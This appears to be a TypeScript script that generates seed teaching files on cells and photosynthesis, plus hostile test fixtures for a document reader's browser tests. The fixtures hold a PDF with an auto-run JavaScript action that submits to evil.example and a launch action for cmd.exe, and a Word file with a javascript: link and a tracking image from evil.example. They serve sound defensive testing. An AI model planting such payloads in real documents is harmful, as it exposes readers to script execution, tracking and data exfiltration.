// Writes the small real files the local stack seeds and the browser tests upload (`npx tsx
// local/seed-files/make-seed-files.ts`; the outputs are committed): a two-page reading on cells (PDF, pdf-lib), a
// worksheet on cells (Word, docx) and three slides on photosynthesis with pictures, bullets and a table (PowerPoint,
// pptxgenjs). It also writes the hostile files the reader's browser tests open (test/e2e/fixtures/): a PDF with
// JavaScript and launch actions, a Word document with a javascript: link and a picture linked from another host, and
// a presentation with five hundred slides. Dates are fixed and the zip packages rewritten with fixed entry times and
// ids, so a run writes the same bytes. The large multi-page PDF is not committed: local/large-pdf.ts writes it at
// seed time.
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { AlignmentType, Document, ExternalHyperlink, HeadingLevel, Packer, Paragraph, TextRun, type ParagraphChild } from 'docx';
import JSZip from 'jszip';
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFFont, type PDFPage } from 'pdf-lib';
import { PNG } from 'pngjs';
import PptxGenJS from 'pptxgenjs';

const SEED_DIR = __dirname;
const HOSTILE_DIR = path.resolve(__dirname, '../../test/e2e/fixtures');
const FIXED_DATE = new Date('2024-01-01T00:00:00Z');
const AUTHOR = 'Learning Paths';

// ---------- PDF ----------

interface PdfPageText {
  heading: string;
  paragraphs: string[];
}

const CELLS_READING: PdfPageText[] = [
  {
    heading: 'Cells: the building blocks of life',
    paragraphs: [
      'Every living thing is made of one or more cells.',
      'A cell is the smallest unit that can carry out all the processes of life: it takes in nutrients, releases energy, grows, responds to its surroundings and reproduces. Bacteria are made of a single cell, while a human body contains tens of trillions of cells working together.',
      'Animal cells have a nucleus, cytoplasm, a cell membrane and mitochondria. Plant cells have all of these parts and also have a cell wall, a permanent vacuole and chloroplasts.',
      'The nucleus holds the genetic material, DNA, which carries the instructions that control the cell. The cytoplasm is a jelly-like liquid where most of the cell\u2019s chemical reactions take place. The cell membrane controls which substances enter and leave the cell.',
      'Mitochondria release energy from glucose in aerobic respiration, which uses oxygen and gives off carbon dioxide and water. Chloroplasts contain the green pigment chlorophyll, which absorbs light so the plant can make its own food by photosynthesis.',
      'The cell wall is made of cellulose; it strengthens the cell and keeps its shape when the vacuole is full of water. The permanent vacuole holds cell sap, a solution of sugars and salts that keeps the plant firm.',
    ],
  },
  {
    heading: 'Check your understanding',
    paragraphs: [
      '1. Name three parts that plant and animal cells share.',
      '2. Which part of a plant cell carries out photosynthesis?',
      '3. Why does a plant cell need a cell wall?',
      '4. Where in the cell does aerobic respiration happen?',
      '5. Explain why a cell from the root of a plant has no chloroplasts.',
    ],
  },
];

/** Splits text into lines that fit `width` points in `font` at `size`. */
function wrap(text: string, font: PDFFont, size: number, width: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    const candidate = line ? `${line} ${word}` : word;
    if (line && font.widthOfTextAtSize(candidate, size) > width) {
      lines.push(line);
      line = word;
    } else {
      line = candidate;
    }
  }
  if (line) lines.push(line);
  return lines;
}

async function newPdf(title: string) {
  const pdf = await PDFDocument.create({ updateMetadata: false });
  pdf.setTitle(title);
  pdf.setAuthor(AUTHOR);
  pdf.setCreationDate(FIXED_DATE);
  pdf.setModificationDate(FIXED_DATE);
  return { pdf, regular: await pdf.embedFont(StandardFonts.Helvetica), bold: await pdf.embedFont(StandardFonts.HelveticaBold) };
}

function drawTextPage(page: PDFPage, { heading, paragraphs }: PdfPageText, regular: PDFFont, bold: PDFFont) {
  const margin = 72;
  const width = page.getWidth() - 2 * margin;
  let y = page.getHeight() - margin - 22;
  page.drawText(heading, { x: margin, y, size: 22, font: bold });
  y -= 36;
  for (const paragraph of paragraphs) {
    for (const line of wrap(paragraph, regular, 12, width)) {
      page.drawText(line, { x: margin, y, size: 12, font: regular });
      y -= 16;
    }
    y -= 8;
  }
}

async function cellsReadingPdf(): Promise<Uint8Array> {
  const { pdf, regular, bold } = await newPdf(CELLS_READING[0]!.heading);
  for (const text of CELLS_READING) drawTextPage(pdf.addPage([612, 792]), text, regular, bold);
  return pdf.save({ useObjectStreams: false });
}

/** Opens with a JavaScript action and has a link that would launch a program; neither may ever run. */
async function hostilePdf(): Promise<Uint8Array> {
  const { pdf, regular, bold } = await newPdf('A PDF with actions');
  const page = pdf.addPage([612, 792]);
  drawTextPage(page, { heading: 'A PDF with actions', paragraphs: ['Opening this file must not run its script or launch anything.'] }, regular, bold);
  const { context } = pdf;
  const script = context.register(
    context.obj({
      Type: 'Action',
      S: 'JavaScript',
      JS: PDFString.of("app.alert('pdf script ran'); this.submitForm('https://evil.example/pdf');"),
    }),
  );
  pdf.catalog.set(PDFName.of('OpenAction'), script);
  pdf.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('boom'), script] }) }));
  page.node.set(PDFName.of('AA'), context.obj({ O: script }));
  const launch = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 600, 540, 720],
    Border: [0, 0, 0],
    A: context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), Win: context.obj({ F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') }) }),
  });
  page.node.set(PDFName.of('Annots'), context.obj([context.register(launch)]));
  return pdf.save({ useObjectStreams: false });
}

// ---------- Zip packages (Word, PowerPoint) ----------

/**
 * The package again with fixed entry times, fixed core-property dates and the libraries' random relationship ids
 * renamed in order of appearance, so the same input gives the same bytes.
 */
async function reproducible(bytes: Uint8Array | Buffer | ArrayBuffer, edit: (name: string, xml: string) => string = (_, xml) => xml): Promise<Buffer> {
  const source = await JSZip.loadAsync(bytes);
  const names = Object.keys(source.files).filter((name) => !source.files[name]!.dir);
  const texts = new Map<string, string>();
  for (const name of names) if (/\.(xml|rels)$/.test(name)) texts.set(name, await source.files[name]!.async('string'));
  const randomIds = new Map<string, string>();
  for (const text of texts.values()) {
    for (const [id] of text.matchAll(/\brId[A-Za-z0-9_-]{8,}\b/g)) if (!randomIds.has(id)) randomIds.set(id, `rIdX${randomIds.size + 1}`);
  }
  const stamp = FIXED_DATE.toISOString().replace(/\.\d{3}Z$/, 'Z');
  const target = new JSZip();
  for (const name of names) {
    const text = texts.get(name);
    let content: string | Uint8Array;
    if (text === undefined) {
      content = await source.files[name]!.async('uint8array');
    } else {
      content = text
        .replace(/\brId[A-Za-z0-9_-]{8,}\b/g, (id) => randomIds.get(id) ?? id)
        .replace(/(<dcterms:(?:created|modified)[^>]*>)[^<]*/g, `$1${stamp}`);
      content = edit(name, content);
    }
    target.file(name, content, { date: FIXED_DATE, createFolders: false });
  }
  return target.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 }, platform: 'UNIX' });
}

// ---------- Word ----------

const heading = (text: string, level: (typeof HeadingLevel)[keyof typeof HeadingLevel] = HeadingLevel.HEADING_1) =>
  new Paragraph({ heading: level, children: [new TextRun({ text, bold: true, size: level === HeadingLevel.HEADING_1 ? 36 : 28 })] });
const paragraph = (...children: ParagraphChild[]) => new Paragraph({ spacing: { after: 160 }, children });
const text = (value: string) => new TextRun(value);

function worksheet(title: string, body: Paragraph[]): Document {
  return new Document({
    creator: AUTHOR,
    lastModifiedBy: AUTHOR,
    title,
    sections: [
      {
        properties: { page: { size: { width: 11906, height: 16838 }, margin: { top: 1440, right: 1440, bottom: 1440, left: 1440 } } },
        children: body,
      },
    ],
  });
}

const CELLS_WORKSHEET = worksheet('Worksheet: label a cell', [
  heading('Worksheet: label a cell'),
  paragraph(text('Use the reading on cells to answer these questions. Write in full sentences.')),
  heading('Key facts', HeadingLevel.HEADING_2),
  paragraph(text('All living things are made of cells, and a cell is the smallest unit of life.')),
  paragraph(text('The nucleus contains DNA, the genetic material that controls what the cell does.')),
  paragraph(text('The cell membrane is a thin, flexible layer that controls which substances pass into and out of the cell.')),
  paragraph(text('Mitochondria are where aerobic respiration releases energy from glucose.')),
  paragraph(text('Only plant cells have a cell wall made of cellulose, a permanent vacuole filled with cell sap, and chloroplasts, which absorb light for photosynthesis.')),
  heading('Questions', HeadingLevel.HEADING_2),
  paragraph(text('1. Label the nucleus, cytoplasm and cell membrane on your diagram.')),
  paragraph(text('2. Add the three parts that only plant cells have.')),
  paragraph(text('3. In one sentence, explain what mitochondria do.')),
  paragraph(text('4. Compare a plant cell and an animal cell: list two differences.')),
  paragraph(text('5. A leaf cell has many chloroplasts but a root cell has none. Suggest why.')),
  new Paragraph({ alignment: AlignmentType.RIGHT, children: [new TextRun({ text: 'Total: 10 marks', italics: true })] }),
]);

/** A javascript: hyperlink and a picture linked from another host: the link must be inert, the picture never fetched. */
const HOSTILE_DOCUMENT = worksheet('A document with a hostile link', [
  heading('A document with a hostile link'),
  paragraph(new ExternalHyperlink({ link: "javascript:alert('docx script ran')", children: [text('Click for a prize')] })),
  paragraph(new ExternalHyperlink({ link: 'https://example.org/safe', children: [text('A safe link')] })),
]);

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/**
 * docx embeds every picture it writes; a picture *linked* from another host (`r:link`, TargetMode External) is what
 * the hostile fixture needs, so it is added to the package afterwards.
 */
function withExternalPicture(name: string, xml: string): string {
  if (name === 'word/_rels/document.xml.rels') {
    return xml.replace(
      '</Relationships>',
      `<Relationship Id="rIdImage" Type="${REL}/image" Target="https://evil.example/tracker.png" TargetMode="External"/></Relationships>`,
    );
  }
  if (name !== 'word/document.xml') return xml;
  const picture =
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="952500" cy="952500"/><wp:docPr id="100" name="Tracker"/>' +
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="100" name="Tracker"/><pic:cNvPicPr/></pic:nvPicPr>' +
    '<pic:blipFill><a:blip r:link="rIdImage"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>' +
    '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
  return xml.replace('<w:sectPr', `${picture}<w:sectPr`);
}

// ---------- PowerPoint ----------

type Pixel = [number, number, number];

function picture(width: number, height: number, colour: (x: number, y: number) => Pixel): string {
  const png = new PNG({ width, height });
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const offset = (y * width + x) * 4;
      png.data.set([...colour(x, y), 255], offset);
    }
  }
  return `image/png;base64,${PNG.sync.write(png).toString('base64')}`;
}

/** A green leaf (an ellipse with a darker midrib) on a pale sky. */
const leaf = () =>
  picture(320, 200, (x, y): Pixel => {
    const [dx, dy] = [(x - 160) / 130, (y - 100) / 70];
    if (Math.abs(y - 100) < 3 && Math.abs(dx) < 1) return [40, 110, 40];
    if (dx * dx + dy * dy <= 1) return [70 + ((x * 3) % 40), 160, 60];
    return [225, 240, 250];
  });

/** A yellow sun on blue. */
const sun = () => picture(160, 160, (x, y): Pixel => (Math.hypot(x - 80, y - 80) < 50 ? [250, 200, 40] : [90, 150, 220]));

interface SlideText {
  title: string;
  bullets: string[];
}

function newDeck(title: string): PptxGenJS {
  const deck = new PptxGenJS();
  deck.layout = 'LAYOUT_WIDE';
  deck.title = title;
  deck.author = AUTHOR;
  deck.company = AUTHOR;
  return deck;
}

function addTextSlide(deck: PptxGenJS, { title, bullets }: SlideText, bulletWidth = 12.3) {
  const slide = deck.addSlide();
  slide.addText(title, { x: 0.5, y: 0.3, w: 12.3, h: 1.2, fontSize: 36, bold: true });
  slide.addText(
    bullets.map((bullet) => ({ text: bullet, options: { bullet: true, breakLine: true } })),
    { x: 0.5, y: 1.6, w: bulletWidth, h: 4.2, fontSize: 20, valign: 'top', paraSpaceAfter: 8 },
  );
  return slide;
}

async function photosynthesisSlides(): Promise<Buffer> {
  const deck = newDeck('Photosynthesis');
  addTextSlide(
    deck,
    {
      title: 'Photosynthesis',
      bullets: [
        'Plants make glucose from carbon dioxide and water.',
        'Light is absorbed by chlorophyll, the green pigment in chloroplasts.',
        'Oxygen is released as a by-product and leaves through the stomata.',
        'Most photosynthesis happens in the palisade cells near the top of the leaf.',
      ],
    },
    6.6,
  ).addImage({ data: leaf(), x: 7.4, y: 1.9, w: 5.4, h: 3.375, altText: 'A green leaf' });
  addTextSlide(
    deck,
    {
      title: 'The word equation',
      bullets: [
        'carbon dioxide + water \u2192 glucose + oxygen',
        'Light energy is needed for the reaction: it is transferred to chemical energy stored in glucose.',
        'Plants use glucose for respiration, and store it as starch or build cellulose for cell walls.',
      ],
    },
    8,
  ).addImage({ data: sun(), x: 9.2, y: 1.9, w: 3.2, h: 3.2, altText: 'The sun' });
  addTextSlide(deck, {
    title: 'What a leaf needs',
    bullets: ['Compare what goes in and what comes out. More light, more carbon dioxide or a warmer day speeds the reaction up, until another factor limits it.'],
  }).addTable(
    [
      ['Goes in', 'Comes out'],
      ['Carbon dioxide', 'Glucose'],
      ['Water', 'Oxygen'],
      ['Light energy', 'Stored chemical energy'],
    ].map((row, index) => row.map((cell) => ({ text: cell, options: { bold: index === 0 } }))),
    { x: 0.5, y: 3.2, w: 8, fontSize: 18, border: { type: 'solid', pt: 1, color: '666666' }, rowH: 0.55 },
  );
  return reproducible((await deck.write({ outputType: 'nodebuffer' })) as Buffer);
}

/** A deck with five hundred slides: the reader must stay responsive (it renders slides on demand). */
async function manySlides(count = 500): Promise<Buffer> {
  const deck = newDeck('A very long deck');
  for (let n = 1; n <= count; n += 1) addTextSlide(deck, { title: `Slide ${n} of ${count}`, bullets: [`Filler slide number ${n}.`] });
  return reproducible((await deck.write({ outputType: 'nodebuffer' })) as Buffer);
}

// ---------- Run ----------

async function main() {
  await mkdir(HOSTILE_DIR, { recursive: true });
  const files: [string, Uint8Array][] = [
    [path.join(SEED_DIR, 'cells-reading.pdf'), await cellsReadingPdf()],
    [path.join(SEED_DIR, 'cells-worksheet.docx'), await reproducible(await Packer.toBuffer(CELLS_WORKSHEET))],
    [path.join(SEED_DIR, 'photosynthesis-slides.pptx'), await photosynthesisSlides()],
    [path.join(HOSTILE_DIR, 'hostile-actions.pdf'), await hostilePdf()],
    [path.join(HOSTILE_DIR, 'hostile-links.docx'), await reproducible(await Packer.toBuffer(HOSTILE_DOCUMENT), withExternalPicture)],
    [path.join(HOSTILE_DIR, 'many-slides.pptx'), await manySlides()],
  ];
  for (const [file, bytes] of files) {
    await writeFile(file, bytes);
    console.log(`${path.relative(process.cwd(), file)} ${bytes.length} bytes`);
  }
}

void main();
